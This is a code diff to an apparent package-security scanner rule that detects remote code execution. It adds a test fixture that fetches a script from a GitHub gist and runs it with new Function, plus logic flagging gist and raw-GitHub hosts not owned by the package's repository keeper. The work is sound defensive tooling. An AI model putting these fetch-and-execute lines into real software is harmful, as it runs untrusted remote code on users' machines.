@@ -1,4 +1,5 @@
 import { opensPages } from '../lib/opens-pages.ts'
+import { HOLE } from '../lib/types.ts'
 import type { Action, Context, Fact, Flow, Inspection, Rule } from '../lib/types.ts'
 import { guardsInWords } from './behaviour/guards.ts'
 import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
@@ -69,6 +70,14 @@ export const remoteCode: Rule = {
             'index.js':
               "const axios = require('axios')\n" +
               "axios.get('https://json.invalid/x').catch(error => new Function('require', error.response.data)(require))\n",
+          },
+        },
+        {
+          title: 'a function runs what somebody keeps in a gist',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+            'index.js':
+              "exports.go = async () => new Function(await (await fetch('https://gist.githubusercontent.com/b/0/raw/c.js')).text())()\n",
           },
         },
         {
@@ -272,7 +281,16 @@ function weigh(flow: Flow, place: Place, inspection: Inspection, namesake: boole
   if (place.kind === 'capture') return flow.certain ? 'block' : 'ask'
   if (namesake) return 'note'
   if (isHidden(flow, place)) return 'ask'
-  return isStranger(place) ? (flow.certain ? 'ask' : 'note') : undefined
+  return isStranger(place) || isAnybodys(place, inspection) ? (flow.certain ? 'ask' : 'note') : undefined
+}
+
+/** Where everybody keeps code under a name of their own: it is the package's where its repository's keeper does. */
+function isAnybodys({ host, kind }: Place, { manifest: { repository = '' } }: Inspection): boolean {
+  if (kind !== 'service' || host === undefined) return false
+  if (!/^(?:gist|raw)\.githubusercontent\.com$|^gist\.github\.com$/.test(host.name)) return false
+  const [, keeper = ''] = host.path.split('/')
+  if (keeper === '' || keeper.includes(HOLE)) return false
+  return !repository.toLowerCase().replace(':', '/').includes(`/${keeper.toLowerCase()}/`)
 }
 
 function say(group: SightingGroup): string {
